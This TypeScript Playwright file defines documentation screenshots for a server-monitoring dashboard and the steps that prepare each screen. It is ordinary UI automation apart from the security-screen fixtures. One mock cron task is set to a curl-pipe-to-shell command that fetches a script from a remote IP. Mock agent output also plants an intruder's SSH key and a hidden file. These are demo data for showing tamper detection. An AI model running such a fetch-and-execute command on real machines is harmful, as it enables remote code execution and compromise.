import { readFile } from 'node:fs/promises'
import type { Page } from '@playwright/test'
import { pick } from './journeys.ts'
import type { Product } from './product.mjs'
import { enUS } from '#locales/en-US.ts'
import { dialogs, resourceScreens, screens } from './screens.ts'
import { dialog } from './steps.ts'
import { run } from './terminal.ts'
import { fileRow, queue } from './transfers.ts'

/** A picture of the documentation: `docs/pictures/<name>.webp`. */
export interface Picture {
  name: string
  /** The path below /dashboard/. */
  address: string
  /** Brings the screen into the state that the picture shows. */
  prepare?: (page: Page, product: Product) => Promise<void>
  scheme?: 'dark'
  size?: 'narrow'
  /** Taken without signing in. */
  isPublic?: true
}

const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true })

async function choose(page: Page, menu: string, item: string) {
  await button(page, menu).click()
  await page.getByRole('menuitem', { name: item, exact: true }).click()
}

async function openMenu(page: Page, name: string) {
  await button(page, name).click()
  await page.getByRole('menu').waitFor()
}

/** Opens a dialog that the list of screens knows by name. */
const openDialog = (wanted: string) => async (page: Page) => {
  const [, , open] = dialogs.find(([name]) => name === wanted)!
  await open(page, (words) => words)
  await dialog(page).waitFor()
}

async function typeInTerminal(page: Page) {
  await run(page, 'clear', '#')
  await run(page, 'ls -l /srv', 'www')
  await run(page, 'uptime', 'load average')
}

/** Compares the server with its own file in which a few values were changed. */
async function compareFile(page: Page, { backend: { tables } }: Product) {
  const [download] = await Promise.all([page.waitForEvent('download'), button(page, 'Save file').click()])
  const text = await readFile(await download.path(), 'utf8')
  const buffer = Buffer.from(
    text
      .replace('https://ci.example.com', 'https://build.example.com')
      .replace('name: Lab bell', 'name: Door bell')
      .replace('name: Nightly backup', 'name: Weekly backup'),
  )
  tables.cron[0]!.command = 'backup.sh --all'
  const [chooser] = await Promise.all([page.waitForEvent('filechooser'), button(page, 'Choose a file…').click()])
  await chooser.setFiles({ name: 'nezha.yaml', mimeType: 'text/yaml', buffer })
  await page.getByRole('table', { name: 'Compare with a file' }).getByRole('row').last().scrollIntoViewIfNeeded()
}

/** Saves a form after somebody else has changed the same value. */
async function conflict(page: Page, { backend }: Product) {
  const host = dialog(page).getByRole('textbox', { name: 'Local service' })
  backend.tables.nat.find(({ id }) => id === 1)!.host = '127.0.0.1:3001'
  await host.fill('127.0.0.1:3100')
  await button(page, 'Save').click()
  await page.getByRole('alertdialog').waitFor()
}

/** Uploads two files. */
async function transfer(page: Page) {
  const files = ['report.pdf', 'photo.jpg'].map((name, at) => ({
    name,
    mimeType: 'application/octet-stream',
    buffer: Buffer.alloc((at + 1) * 300_000),
  }))
  const [chooser] = await Promise.all([page.waitForEvent('filechooser'), button(page, 'Upload').click()])
  await chooser.setFiles(files)
  await queue(page).getByText('2 of 2 finished').waitFor()
}

/** Ends the session while a form is open. */
async function loseSession(page: Page) {
  await dialog(page).getByRole('textbox', { name: 'Name' }).fill('Website and shop')
  await page.context().clearCookies()
  await button(page, 'Save').click()
  await page.getByRole('dialog', { name: 'Sign in again' }).waitFor()
}

/** Shows the list of what an update leaves, on a server that was installed before the release that closed it. */
async function showOpenBlock(page: Page, { backend: { tables } }: Product) {
  for (const user of tables.user) user.created_at = '2026-02-03T09:00:00Z'
  await page.reload()
  const steps = page.getByRole('region', { name: 'What an update does not replace' })
  await steps.getByRole('checkbox').first().check()
  await steps.evaluate((element) => element.scrollIntoView())
}

/** Keeps the state of the server and lets a task and a tunnel change. */
async function drift(page: Page, { backend: { tables } }: Product) {
  await button(page, 'Keep in this browser').click()
  await button(page, 'Compare now').waitFor()
  tables.cron[0]!.command = 'curl -fsSL http://198.51.100.23/x.sh | sh'
  tables.nat.length = 1
  await page.reload()
  await page.getByRole('table', { name: 'Known state' }).waitFor()
}

/** Runs the script that looks at machines. */
async function lookAtMachines(page: Page, { backend }: Product) {
  const usual = [
    'keys\t/root/.ssh/authorized_keys: 1\t2026-01-04',
    'key\t/root/.ssh/authorized_keys 5f3c0d1b9a72 ops@example\t',
  ]
  const planted = ['key\t/root/.ssh/authorized_keys 91c2ab07e4d5 sysop@nezhapwn\t', 'hidden\t/dev/shm/.kworker_u8\t']
  for (const id of [1, 2, 3]) {
    backend.agent(id).behave({ prints: [...usual, ...(id === 2 ? planted : []), ''].join('\n') })
  }
  await page.getByRole('button', { name: /^Run on/ }).click()
  await page.getByRole('alertdialog').getByRole('button', { name: /^Run/ }).click()
  const results = page.getByRole('region', { name: 'What differs from most servers' })
  await results.getByText('sysop@nezhapwn').waitFor()
  await results.evaluate((element) => element.scrollIntoView())
}

/** Comes back after six minutes to a browser that asks again after five. */
async function askForPassword(page: Page, { url }: Product) {
  await page.evaluate(() => {
    localStorage.setItem('lotus.passwordCheck.1', '5')
    localStorage.setItem('lotus.lastUse', String(Date.now() - 6 * 60_000))
  })
  await page.goto(new URL('command?servers=1', url).href)
  await page.getByRole('dialog', { name: 'Enter your password' }).waitFor()
}

/** Waits for the element that says that a screen of the list is loaded. */
export async function waitForScreen(page: Page, address: string) {
  const known = screens.find(([one]) => one === address)
  if (known) await known[1](page).waitFor()
}

/** The words for a record in the names of pictures, where they are not its English name. */
const otherWords: Readonly<Record<string, string>> = {
  ddns: 'ddns |||| ddns',
  nat: 'tunnel |||| tunnels',
  waf: 'firewall',
}

/** What each resource shows, named as in English: `server-groups` and `server-group-create`. */
const ofResources = resourceScreens.map(({ resource, address, shows }): Picture => {
  const words = otherWords[resource] ?? enUS.resources[resource as keyof typeof enUS.resources].name
  const [one = '', many = one] = words.toLowerCase().replaceAll(' ', '-').split('-||||-')
  return { name: shows === 'list' || shows === 'singleton' ? many : `${one}-${shows}`, address }
})

export const pictures: Picture[] = [
  ...ofResources,
  { name: 'sign-in', address: 'login', isPublic: true },
  { name: 'sign-in-again', address: 'service?edit=1', prepare: loseSession },
  { name: 'servers-dark', address: '', scheme: 'dark' },
  { name: 'servers-narrow', address: '', size: 'narrow' },
  { name: 'servers-inventory', address: '?view=inventory' },
  { name: 'servers-filtered', address: '?filter={"q":"tokyo"}' },
  { name: 'servers-views', address: '', prepare: (page) => openMenu(page, 'Views') },
  { name: 'server-limits', address: '', prepare: openDialog('Limits for warnings') },
  {
    name: 'server-arrange',
    address: '?view=inventory',
    prepare: async (page) => {
      await choose(page, 'Views', 'Arrange by hand')
      await button(page, 'Move tokyo-1').waitFor()
    },
  },
  { name: 'server-menu', address: '', prepare: (page) => openMenu(page, 'Actions for tokyo-2') },
  { name: 'server', address: 'server/1' },
  { name: 'server-narrow', address: 'server/1', size: 'narrow' },
  {
    name: 'server-install',
    address: '',
    prepare: async (page) => {
      await button(page, 'Install an agent').click()
      await button(page, 'Copy the command').waitFor()
    },
  },
  {
    name: 'agent-configuration',
    address: '',
    prepare: async (page) => {
      await choose(page, 'Actions for tokyo-2', 'Agent configuration')
      await dialog(page).getByRole('switch', { name: 'Disable command execution' }).waitFor()
    },
  },
  {
    name: 'bulk-edit',
    address: 'service',
    prepare: async (page) => {
      await page.getByRole('checkbox', { name: 'Select all rows on this page' }).click()
      await button(page, 'Edit').click()
      await dialog(page).getByRole('checkbox', { name: 'Change: Interval (seconds)' }).click()
      await dialog(page).getByRole('textbox', { name: 'New value' }).fill('60')
      await button(page, 'Preview').click()
      await dialog(page)
        .getByText(/will change/)
        .waitFor()
    },
  },
  {
    name: 'deletion',
    address: 'notification',
    prepare: async (page) => {
      await page.getByRole('checkbox').nth(1).check()
      await button(page, 'Delete').click()
      await page.getByRole('alertdialog').waitFor()
    },
  },
  {
    name: 'history',
    address: 'history',
    prepare: async (page) => {
      await page.getByRole('progressbar').waitFor({ state: 'hidden' })
      await page.getByRole('columnheader', { name: 'When' }).waitFor()
    },
  },
  {
    name: 'traffic',
    address: 'history/traffic',
    prepare: (page) => page.getByRole('progressbar').waitFor({ state: 'hidden' }),
  },
  { name: 'map', address: 'map' },
  { name: 'compare', address: 'compare?servers=1-3' },
  { name: 'expiry', address: 'expiry' },
  { name: 'renew', address: 'expiry', prepare: openDialog('Renew') },
  {
    name: 'command',
    address: 'command?servers=1,2,3',
    prepare: async (page) => {
      await page.getByRole('textbox', { name: 'Command' }).fill('uname -a')
      await page.getByRole('button', { name: /^Run on/ }).click()
      await page.getByRole('alertdialog').getByRole('button', { name: /^Run/ }).click()
      await page.getByText(/^3 of 3 finished/).waitFor()
    },
  },
  { name: 'terminal', address: 'terminal/1', prepare: typeInTerminal },
  { name: 'terminal-narrow', address: 'terminal/1', size: 'narrow', prepare: typeInTerminal },
  { name: 'files', address: 'files/1' },
  {
    name: 'file',
    address: 'files/1',
    prepare: async (page) => {
      await fileRow(page, 'notes.md').click()
      await page.getByRole('textbox', { name: 'Text of notes.md' }).waitFor()
    },
  },
  { name: 'transfers', address: 'files/1', prepare: transfer },
  { name: 'service', address: 'service/1' },
  { name: 'services-add-many', address: 'service', prepare: openDialog('Add many services') },
  {
    name: 'alert-rule-try',
    address: 'alert-rule?edit=2',
    prepare: async (page) => {
      await openDialog('Try an alert rule')(page)
      await page.getByRole('slider', { name: 'Limit' }).scrollIntoViewIfNeeded()
    },
  },
  {
    name: 'clones',
    address: 'nat',
    prepare: async (page) => {
      await choose(page, 'Actions for Grafana', 'Clone for several')
      await pick(dialog(page), page, 'Servers', 'osaka-1')
      await pick(dialog(page), page, 'Servers', 'oslo-1')
      await button(page, 'Create 2 clones').waitFor()
    },
  },
  { name: 'conflict', address: 'nat?edit=1', prepare: conflict },
  {
    name: 'settings-code',
    address: 'settings',
    prepare: async (page) => {
      await page
        .getByRole('textbox', { name: 'Custom code of the dashboard' })
        .fill('<style>\n  header { border-top: 4px solid crimson; }\n</style>')
      await page
        .getByRole('button', { name: /^Edit with preview/ })
        .last()
        .click()
      await dialog(page).waitFor()
    },
  },
  { name: 'configuration', address: 'configuration' },
  { name: 'configuration-compare', address: 'configuration', prepare: compareFile },
  { name: 'configuration-check', address: 'configuration-check' },
  { name: 'security-check', address: 'settings/security' },
  { name: 'security-after-update', address: 'settings/security', prepare: showOpenBlock },
  { name: 'security-known-state', address: 'settings/security', prepare: drift },
  { name: 'security-machines', address: 'command?servers=1-3&look', prepare: lookAtMachines },
  { name: 'profile', address: 'profile' },
  { name: 'password-check', address: 'profile', prepare: askForPassword },
  {
    name: 'palette',
    address: '',
    prepare: async (page) => {
      await page.keyboard.press('Control+k')
      await page.getByRole('combobox', { name: 'Search everything' }).fill('tokyo')
      await page
        .getByRole('option', { name: /tokyo-1/ })
        .first()
        .waitFor()
    },
  },
  {
    name: 'shortcuts',
    address: '',
    prepare: async (page) => {
      await page.keyboard.press('?')
      await dialog(page).waitFor()
    },
  },
]
